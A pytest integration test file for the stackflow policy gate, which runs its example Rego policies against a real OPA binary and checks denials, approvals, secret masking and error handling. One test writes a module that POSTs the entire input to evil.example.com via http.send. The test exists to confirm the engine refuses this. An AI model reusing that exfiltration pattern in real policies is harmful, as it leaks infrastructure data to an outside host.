"""The example policy bundle (examples/policies) against the real OPA binary.

Input documents are built the way the policy gate builds them
(:func:`stackflow.policy_gate.plan_input.build_input`) from real ``Resource``/``Spec``
objects, recorded resources and the changes :func:`stackflow.engine.diff.diff_resource` finds
(Kubernetes workloads, Services, a Secret, ConfigMaps; Terraform resources of allowed and
other providers; OnPrem files; deletes of recorded resources). Each policy must deny, warn
or ask for approval on exactly the resources it is about and let the rest pass; a Secret's
value never reaches the input or a message; a module that does not compile, one that calls
``http.send`` and one that never ends fail with PolicyError; ``stackflow policy test``
(offline) exits 2 on a denial and 0 on a pass.
"""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from stackflow.engine.diff import diff_resource
from stackflow.engine.masking import SENSITIVE_MARKER, sensitive_paths_for
from stackflow.model.policy import Outcome, PolicyDecision, PolicyMessage
from stackflow.model.source import SourceRef
from stackflow.model.spec import Resource, Spec
from stackflow.policy_gate.bundle import load_bundle_dir
from stackflow.policy_gate.engine import Module, PolicyError, evaluate
from stackflow.policy_gate.plan_input import build_input, input_bytes
from tests.integration.conftest import REPO, require_env, run_cli

pytestmark = pytest.mark.integration

POLICIES = REPO / "examples" / "policies"
NAMES = [
    "change_window.rego",
    "images.rego",
    "labels.rego",
    "protected.rego",
    "public_load_balancer.rego",
    "replicas.rego",
    "terraform_providers.rego",
    "warnings.rego",
]
LABELS = {"app.kubernetes.io/name": "shop", "team": "payments"}
TUESDAY_10 = "2025-06-03T10:15:00+00:00"
OLD_PASSWORD = "Tr0ub4dor&3-old-db-password"
NEW_PASSWORD = "correct-horse-battery-staple-9"
GENERATED = "xK9#generated-by-random-provider"
SOURCE = SourceRef(
    url="https://git.example.com/shop/infra.git", commit="a" * 40, path="stacks/shop.yaml"
)

Triple = tuple[str, str, str | None]


@pytest.fixture(scope="module", autouse=True)
def opa() -> str:
    return require_env("STACKFLOW_OPA_BIN")


# ---- building plans --------------------------------------------------------------------------
def kube(
    api_version: str,
    kind: str,
    name: str,
    body: dict[str, Any] | None = None,
    *,
    namespace: str | None = "shop",
    labels: dict[str, str] | None = None,
    annotations: dict[str, str] | None = None,
) -> Resource:
    metadata: dict[str, Any] = {"name": name}
    if namespace is not None:
        metadata["namespace"] = namespace
    metadata["labels"] = dict(LABELS if labels is None else labels)
    if annotations:
        metadata["annotations"] = annotations
    ident = f"{api_version}:{kind}:{namespace}:{name}" if namespace else f"v1:{kind}:{name}"
    attributes = {"apiVersion": api_version, "kind": kind, "metadata": metadata, **(body or {})}
    return Resource(id=ident, type="Kubernetes", attributes=attributes)


def pod_template(*containers: dict[str, Any], init: Sequence[dict[str, Any]] = ()) -> Any:
    spec: dict[str, Any] = {"containers": list(containers)}
    if init:
        spec["initContainers"] = list(init)
    return {"metadata": {"labels": {"app": "shop"}}, "spec": spec}


def container(name: str, image: str) -> dict[str, Any]:
    return {
        "name": name,
        "image": image,
        "ports": [{"containerPort": 8080, "name": "http"}],
        "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}},
        "readinessProbe": {"httpGet": {"path": "/healthz", "port": "http"}},
    }


def deployment(
    name: str, image: str, replicas: int = 3, *, kind: str = "Deployment", **kw: Any
) -> Resource:
    body = {
        "spec": {
            "replicas": replicas,
            "selector": {"matchLabels": {"app": name}},
            "template": pod_template(container(name, image)),
        }
    }
    return kube("apps/v1", kind, name, body, **kw)


def terraform(ident: str, provider: str, **attributes: Any) -> Resource:
    return Resource(
        id=ident,
        type="Terraform",
        attributes=attributes,
        extensions={"provider": provider, "resourceType": ident.split(":")[2]},
    )


def onprem_file(path: str, content: str) -> Resource:
    return Resource(
        id=f"onprem:File:{path}",
        type="OnPrem",
        attributes={"kind": "File", "path": path, "content": content, "mode": "0644"},
    )


def with_attrs(resource: Resource, **changes: Any) -> Resource:
    """A copy of ``resource`` with top-level attributes changed (a recorded version)."""
    return resource.model_copy(update={"attributes": {**resource.attributes, **changes}})


@dataclass
class Planned:
    """One resource of a run: its spec (None: the run deletes it), what the stack recorded
    (None: new), and what is live when it differs from the record (drift)."""

    desired: Resource | None
    recorded: Resource | None = None
    live: dict[str, Any] | None = None

    @property
    def resource(self) -> Resource:
        found = self.desired or self.recorded
        assert found is not None
        return found


def document(
    items: Iterable[Planned],
    *,
    workspace: str = "prod",
    operation: str = "apply",
    requested_by: str = "bob",
    now: str = TUESDAY_10,
) -> dict[str, Any]:
    """The input document the gate would build for these resources, with the changes a
    preview finds (three-way diff, sensitive fields masked as the preview masks them)."""
    items = list(items)
    spec = Spec(resources=[p.desired for p in items if p.desired is not None])
    changes = []
    for p in items:
        res = p.resource
        prior = p.recorded.attributes if p.recorded is not None else None
        live = p.live if p.live is not None else prior
        sensitive = sensitive_paths_for(res.type, res.attributes)
        if p.recorded is not None:
            sensitive += sensitive_paths_for(res.type, p.recorded.attributes)
        change = diff_resource(
            res.id,
            res.type,
            p.desired.attributes if p.desired is not None else None,
            live,
            prior,
            sensitive_paths=sensitive,
        )
        changes.append(change.model_dump(mode="json"))
    return build_input(
        project="shop",
        workspace=workspace,
        operation=operation,
        spec=spec,
        node_ids=[r.id for r in spec.resources],
        deletion_ids=[p.resource.id for p in items if p.desired is None],
        types={p.resource.id: p.resource.type for p in items},
        recorded={p.resource.id: p.recorded for p in items if p.recorded is not None},
        changes=changes,
        requested_by=requested_by,
        source=SOURCE,
        now=now,
    )


def modules(directory: Path = POLICIES, scope: str = "project") -> list[Module]:
    bundle = load_bundle_dir(directory)
    return [Module(policy=f"{scope}/{path}", source=src) for path, src in bundle.modules.items()]


def decide(doc: dict[str, Any], mods: list[Module] | None = None) -> PolicyDecision:
    body = input_bytes(doc)
    messages, policies = evaluate(mods if mods is not None else modules(), body)
    return PolicyDecision.of(
        messages,
        bundles=[],
        input_digest="sha256:" + "0" * 64,
        policies=policies,
        evaluated_at=None,
        duration_ms=0,
    )


def triples(messages: Iterable[PolicyMessage]) -> set[Triple]:
    return {(m.policy.removeprefix("project/"), m.rule.value, m.resource) for m in messages}


# ---- the plan every policy judges --------------------------------------------------------------
BIG = "x" * (150 * 1024)
SECRET = kube(
    "v1",
    "Secret",
    "db-credentials",
    {"type": "Opaque", "data": {"password": base64.b64encode(NEW_PASSWORD.encode()).decode()}},
)
GENERATED_PASSWORD = terraform(
    "hashicorp:random:random_password:db",
    "registry.terraform.io/hashicorp/random/3.6.0",
    length=32,
    special=True,
)
WEB_SERVICE = kube(
    "v1",
    "Service",
    "web",
    {"spec": {"selector": {"app": "web"}, "ports": [{"port": 80, "targetPort": "http"}]}},
)


def load_balancer(name: str, annotations: dict[str, str] | None = None) -> Resource:
    body = {"spec": {"type": "LoadBalancer", "selector": {"app": name}, "ports": [{"port": 443}]}}
    return kube("v1", "Service", name, body, annotations=annotations)


def main_plan() -> list[Planned]:
    statefulset = deployment(
        "db", "postgres:latest", 150, kind="StatefulSet", labels={"app.kubernetes.io/name": "db"}
    )
    statefulset.attributes["spec"]["template"]["spec"]["initContainers"] = [
        container("init-perms", "busybox@sha256:" + "b" * 64)
    ]
    cronjob = kube(
        "batch/v1",
        "CronJob",
        "report",
        {
            "spec": {
                "schedule": "0 3 * * *",
                "jobTemplate": {
                    "spec": {"template": pod_template(container("report", "acme/report:latest"))}
                },
            }
        },
    )
    pod = kube(
        "v1",
        "Pod",
        "debug",
        {
            "spec": {
                "containers": [container("shell", "busybox:1.36.1")],
                "initContainers": [container("fetch", "alpine")],
            }
        },
    )
    job = kube(
        "batch/v1",
        "Job",
        "migrate",
        {
            "spec": {
                "template": pod_template(container("m", "ghcr.io/acme/migrate@sha256:" + "c" * 64))
            }
        },
    )
    daemonset = deployment("log-agent", "fluent/fluent-bit:3.1.4", kind="DaemonSet")
    del daemonset.attributes["spec"]["replicas"]
    worker = deployment("worker", "ghcr.io/acme/worker:2.4.0", 40)
    cache = deployment("cache", "redis:7.2.5", 30)
    legacy = kube(
        "v1",
        "ConfigMap",
        "legacy",
        {"data": {"mode": "legacy"}},
        annotations={"stackflow.io/protected": "true"},
    )
    bucket = terraform(
        "hashicorp:aws:aws_s3_bucket:assets",
        "registry.terraform.io/hashicorp/aws/5.60.0",
        bucket="shop-assets",
        tags={"stackflow.io/protected": "true", "team": "payments"},
    )
    namespace = kube("v1", "Namespace", "shop", namespace=None, labels={})
    drifted_live = json.loads(json.dumps(WEB_SERVICE.attributes))
    drifted_live["spec"]["ports"][0]["port"] = 8080
    old_secret = with_attrs(
        SECRET, data={"password": base64.b64encode(OLD_PASSWORD.encode()).decode()}
    )
    generated_recorded = with_attrs(
        GENERATED_PASSWORD,
        result=GENERATED,
        id="none",
        _stackflow_tfstate='{"result":"' + GENERATED + '"}',
        _stackflow_sensitive=["result"],
    )
    secret_from_password = kube(
        "v1",
        "Secret",
        "db-password",
        {"stringData": {"password": "$kusion_path.hashicorp:random:random_password:db.result"}},
    )
    return [
        Planned(namespace, recorded=namespace),  # unchanged, unlabelled: not judged
        Planned(deployment("web", "nginx:1.27.3")),
        Planned(deployment("api", "registry.example.com:5000/shop/api", 30)),
        Planned(statefulset),
        Planned(cronjob),
        Planned(pod),
        Planned(job),
        Planned(daemonset),
        Planned(
            worker, recorded=with_attrs(worker, spec={**worker.attributes["spec"], "replicas": 25})
        ),
        Planned(
            cache,
            recorded=with_attrs(
                cache,
                spec={
                    **cache.attributes["spec"],
                    "template": pod_template(container("cache", "redis:7.2.4")),
                },
            ),
        ),
        Planned(WEB_SERVICE, recorded=WEB_SERVICE, live=drifted_live),
        Planned(load_balancer("public")),
        Planned(
            load_balancer("internal-gke", {"networking.gke.io/load-balancer-type": "Internal"})
        ),
        Planned(
            load_balancer(
                "internal-aws", {"service.beta.kubernetes.io/aws-load-balancer-internal": "true"}
            )
        ),
        Planned(SECRET, recorded=old_secret),
        Planned(secret_from_password),
        Planned(
            kube(
                "v1",
                "ConfigMap",
                "web-config",
                {"data": {"LOG_LEVEL": "info"}},
                labels={"team": "payments"},
            )
        ),
        Planned(kube("v1", "ConfigMap", "big-config", {"data": {"catalog.json": BIG}})),
        Planned(None, recorded=legacy),  # protected: refused
        Planned(None, recorded=kube("v1", "ConfigMap", "old", {"data": {"a": "b"}})),
        Planned(GENERATED_PASSWORD, recorded=generated_recorded),
        Planned(
            terraform(
                "hashicorp:null:null_resource:hook",
                "registry.terraform.io/hashicorp/null/2.1.2",
                triggers={"v": "1"},
            )
        ),
        Planned(
            terraform(
                "builtin:terraform:terraform_data:note",
                "terraform.io/builtin/terraform",
                input={"text": "hi"},
            )
        ),
        Planned(
            terraform(
                "integrations:github:github_repository:shop",
                "registry.terraform.io/integrations/github/6.2.3",
                name="shop",
                visibility="private",
            )
        ),
        Planned(
            terraform(  # the id says hashicorp/random; what is installed is another one
                "hashicorp:random:random_id:disguised",
                "registry.example.com/acme/random/1.0.0",
                byte_length=4,
            )
        ),
        Planned(None, recorded=bucket),  # protected by its tag
        Planned(
            None,
            recorded=terraform(
                "cloudflare:cloudflare:cloudflare_record:old",
                "registry.terraform.io/cloudflare/cloudflare/4.0.0",
                name="old",
            ),
        ),
        Planned(onprem_file("/etc/shop/app.conf", "listen 8080\n")),
        Planned(onprem_file("/srv/shop/catalog.json", BIG)),
    ]


EXPECTED: set[Triple] = {
    ("images.rego", "deny", "apps/v1:Deployment:shop:api"),
    ("images.rego", "deny", "apps/v1:StatefulSet:shop:db"),
    ("images.rego", "deny", "batch/v1:CronJob:shop:report"),
    ("images.rego", "deny", "v1:Pod:shop:debug"),
    ("labels.rego", "deny", "apps/v1:StatefulSet:shop:db"),
    ("labels.rego", "deny", "v1:ConfigMap:shop:web-config"),
    ("public_load_balancer.rego", "deny", "v1:Service:shop:public"),
    ("terraform_providers.rego", "deny", "integrations:github:github_repository:shop"),
    ("terraform_providers.rego", "deny", "hashicorp:random:random_id:disguised"),
    ("replicas.rego", "require_approval", "apps/v1:Deployment:shop:api"),
    ("replicas.rego", "require_approval", "apps/v1:Deployment:shop:worker"),
    ("replicas.rego", "deny", "apps/v1:StatefulSet:shop:db"),
    ("protected.rego", "deny", "v1:ConfigMap:shop:legacy"),
    ("protected.rego", "deny", "hashicorp:aws:aws_s3_bucket:assets"),
    ("warnings.rego", "warn", "v1:ConfigMap:shop:big-config"),
    ("warnings.rego", "warn", "v1:Service:shop:web"),
    ("warnings.rego", "warn", "onprem:File:/srv/shop/catalog.json"),
}


@pytest.fixture(scope="module")
def main() -> tuple[dict[str, Any], PolicyDecision]:
    doc = document(main_plan())
    return doc, decide(doc)


def test_the_plan_is_what_the_policies_are_shown(
    main: tuple[dict[str, Any], PolicyDecision],
) -> None:
    doc, decision = main
    actions = {c["id"]: c["action"] for c in doc["changes"]}
    assert actions["v1:Namespace:shop"] == "UnChanged"
    assert actions["apps/v1:Deployment:shop:worker"] == "Update"
    assert actions["apps/v1:Deployment:shop:cache"] == "Update"
    assert actions["v1:ConfigMap:shop:legacy"] == "Delete"
    assert actions["hashicorp:random:random_password:db"] == "UnChanged"
    drifted = {c["id"] for c in doc["changes"] if c["drift"]}
    assert drifted == {"v1:Service:shop:web"}
    assert sorted(decision.policies) == [f"project/{n}" for n in NAMES]  # lib.rego: a library
    assert decision.outcome == Outcome.denied


@pytest.mark.parametrize("policy", NAMES)
def test_each_policy_judges_exactly_its_resources(
    policy: str, main: tuple[dict[str, Any], PolicyDecision]
) -> None:
    _, decision = main
    found = {t for t in triples(decision.messages) if t[0] == policy}
    want = {t for t in EXPECTED if t[0] == policy}
    assert found == want


def test_every_message_names_its_resource_and_what_to_change(
    main: tuple[dict[str, Any], PolicyDecision],
) -> None:
    _, decision = main
    assert triples(decision.messages) == EXPECTED
    for message in decision.messages:
        assert message.resource is not None
        name = message.resource.rsplit(":", 1)[-1].rsplit("/", 1)[-1]
        assert name in message.msg, message
        assert ": " in message.msg, message  # what is wrong: what to do
        assert not message.msg.endswith("…"), message  # within the decision's 300 characters
    by = {(m.policy, m.resource): m.msg for m in decision.messages}
    assert (
        "registry.example.com:5000/shop/api"
        in by[("project/images.rego", "apps/v1:Deployment:shop:api")]
    )
    assert "names no tag" in by[("project/images.rego", "apps/v1:Deployment:shop:api")]
    assert "busybox" not in by[("project/images.rego", "apps/v1:StatefulSet:shop:db")]
    assert "lacks the label(s) team" in by[("project/labels.rego", "apps/v1:StatefulSet:shop:db")]
    assert (
        "Deployment shop/worker scales from 25 to 40 replicas"
        in by[("project/replicas.rego", "apps/v1:Deployment:shop:worker")]
    )
    assert (
        "is created with 30 replicas"
        in by[("project/replicas.rego", "apps/v1:Deployment:shop:api")]
    )
    assert "(tag)" in by[("project/protected.rego", "hashicorp:aws:aws_s3_bucket:assets")]
    assert "150 KiB" in by[("project/warnings.rego", "v1:ConfigMap:shop:big-config")]


def test_a_secret_never_reaches_the_input_or_a_message(
    main: tuple[dict[str, Any], PolicyDecision],
) -> None:
    doc, decision = main
    body = input_bytes(doc).decode()
    said = json.dumps(decision.model_dump(mode="json"))
    for secret in (OLD_PASSWORD, NEW_PASSWORD, GENERATED):
        forms = {secret, base64.b64encode(secret.encode()).decode(), json.dumps(secret)[1:-1]}
        for form in forms:
            assert form not in body
            assert form not in said
    secret = next(c for c in doc["changes"] if c["id"] == "v1:Secret:shop:db-credentials")
    assert secret["action"] == "Update"
    assert secret["after"]["data"] == SENSITIVE_MARKER
    assert secret["before"]["data"] == SENSITIVE_MARKER
    assert secret["diff"] and all(d["new"] == SENSITIVE_MARKER for d in secret["diff"])
    generated = next(c for c in doc["changes"] if c["id"] == "hashicorp:random:random_password:db")
    assert generated["before"]["result"] == SENSITIVE_MARKER


def test_a_compliant_plan_passes() -> None:
    doc = document(
        [
            Planned(deployment("web", "nginx:1.27.3")),
            Planned(WEB_SERVICE, recorded=WEB_SERVICE),
            Planned(SECRET),
            Planned(GENERATED_PASSWORD),
            Planned(onprem_file("/etc/shop/app.conf", "listen 8080\n")),
        ]
    )
    decision = decide(doc)
    assert decision.messages == []
    assert decision.outcome == Outcome.passed
    assert len(decision.policies) == 8


# ---- the change window ------------------------------------------------------------------------
WINDOW = "project/change_window.rego"


@pytest.mark.parametrize(
    ("workspace", "operation", "now", "requested_by", "changes", "asks"),
    [
        ("prod", "apply", "2025-06-06T10:00:00+00:00", "bob", True, True),  # Friday
        ("prod", "apply", "2025-06-07T23:30:00+00:00", "bob", True, True),  # Saturday night
        ("prod", "destroy", "2025-06-08T12:00:00+00:00", "bob", True, True),  # Sunday
        ("prod", "apply", "2025-06-03T17:00:00+00:00", "bob", True, True),  # Tuesday, closed
        ("prod", "apply", "2025-06-03T07:59:00+00:00", "bob", True, True),  # not open yet
        ("prod", "apply", "2025-06-02T08:00:00+00:00", "bob", True, False),  # Monday, open
        ("prod", "rollback", "2025-06-05T16:59:00+00:00", "bob", True, False),  # Thursday
        ("prod", "apply", "2025-06-07T23:30:00+00:00", "alice", True, False),  # on-call
        ("prod", "preview", "2025-06-07T23:30:00+00:00", "bob", True, False),  # a preview
        ("prod", "apply", "2025-06-07T23:30:00+00:00", "bob", False, False),  # nothing to do
        ("staging", "apply", "2025-06-07T23:30:00+00:00", "bob", True, False),
    ],
)
def test_change_window(
    workspace: str, operation: str, now: str, requested_by: str, changes: bool, asks: bool
) -> None:
    web = deployment("web", "nginx:1.27.3")
    item = Planned(web) if changes else Planned(web, recorded=web)
    doc = document(
        [item], workspace=workspace, operation=operation, now=now, requested_by=requested_by
    )
    decision = decide(doc)
    found = triples(decision.messages)
    if not asks:
        assert found == set()
        assert decision.outcome == Outcome.passed
        return
    assert found == {("change_window.rego", "require_approval", None)}
    assert decision.outcome == Outcome.approval
    (message,) = decision.messages
    assert f"shop/prod: {operation} of 1 change(s) by bob" in message.msg
    assert "Monday-Thursday 08:00-17:00 UTC" in message.msg
    assert decision.approval_reason().startswith(f"{WINDOW}: shop/prod")


def test_the_window_reads_the_runs_clock() -> None:
    """input.time is the run's clock: the same plan judged at another time differs."""
    web = deployment("web", "nginx:1.27.3")
    utc = document([Planned(web)], now="2025-06-08T02:00:00+00:00")  # Sunday
    assert utc["time"]["weekday"] == "Sunday" and utc["time"]["hour"] == 2
    assert decide(utc).outcome == Outcome.approval
    assert decide(document([Planned(web)], now=TUESDAY_10)).outcome == Outcome.passed


def test_only_warnings_let_the_run_through() -> None:
    doc = document(
        [
            Planned(kube("v1", "ConfigMap", "big-config", {"data": {"catalog.json": BIG}})),
            Planned(onprem_file("/etc/shop/small.txt", "x" * 1024)),
        ]
    )
    decision = decide(doc)
    assert triples(decision.messages) == {("warnings.rego", "warn", "v1:ConfigMap:shop:big-config")}
    assert decision.outcome == Outcome.warned


# ---- modules that cannot be evaluated ----------------------------------------------------------
def broken(tmp_path: Path, name: str, source: str) -> list[Module]:
    directory = tmp_path / "bundle"
    directory.mkdir()
    for path in POLICIES.glob("*.rego"):
        (directory / path.name).write_text(path.read_text())
    (directory / name).write_text(source)
    return modules(directory)


def small_input() -> bytes:
    return input_bytes(document([Planned(deployment("web", "nginx:1.27.3"))]))


def test_a_syntax_error_names_the_module_and_row(tmp_path: Path) -> None:
    mods = broken(
        tmp_path,
        "typo.rego",
        "package stackflow\n\n# a rule without its body\ndeny contains msg if {\n"
        '\tmsg := "x"\n\tinput.changes[_].action == \n}\n',
    )
    with pytest.raises(PolicyError) as caught:
        evaluate(mods, small_input())
    text = str(caught.value)
    assert "\n" not in text
    assert text.startswith("policy project/typo.rego:7: rego_parse_error"), text


def test_http_send_is_refused_naming_the_module_and_row(tmp_path: Path) -> None:
    mods = broken(
        tmp_path,
        "exfiltrate.rego",
        "package stackflow\n\nimport data.stackflow.lib\n\n"
        "deny contains msg if {\n"
        '\tresp := http.send({"method": "POST", "url": "https://evil.example.com", '
        '"body": input})\n'
        "\tmsg := resp.body\n}\n",
    )
    with pytest.raises(PolicyError) as caught:
        evaluate(mods, small_input())
    text = str(caught.value)
    assert "\n" not in text
    assert text.startswith("policy project/exfiltrate.rego:6: rego_type_error"), text
    assert "http.send" in text


def test_an_endless_policy_times_out(tmp_path: Path) -> None:
    mods = broken(
        tmp_path,
        "endless.rego",
        "package stackflow\n\n"
        "deny contains msg if {\n"
        "\tsome x in numbers.range(1, 100000)\n"
        "\tsome y in numbers.range(1, 100000)\n"
        "\tx * y == -1\n"
        '\tmsg := "never"\n}\n',
    )
    with pytest.raises(PolicyError) as caught:
        evaluate(mods, small_input(), timeout=1.0)
    assert str(caught.value) == ("policies did not finish within 1s (STACKFLOW_POLICY_TIMEOUT)")


# ---- the CLI, offline ---------------------------------------------------------------------------
def test_policy_test_command_offline(
    tmp_path: Path, main: tuple[dict[str, Any], PolicyDecision]
) -> None:
    env = dict(os.environ)
    denying = tmp_path / "denying.json"
    denying.write_bytes(input_bytes(main[0]))
    done = run_cli(env, "policy", "test", "--input", str(denying), "--policy", str(POLICIES))
    assert done.returncode == 2, done.stderr
    out = " ".join(done.stdout.split())
    assert "Policy: deny" in out
    assert "8 policies" in out
    for name in ("images", "labels", "public_load_balancer", "terraform_providers", "protected"):
        assert f"run/{name}.rego" in out

    passing = tmp_path / "passing.json"
    passing.write_bytes(small_input())
    done = run_cli(
        env, "policy", "test", "--input", str(passing), "--policy", str(POLICIES), "-o", "json"
    )
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["outcome"] == "pass"
    assert sorted(result["policies"]) == [f"run/{n}" for n in NAMES]
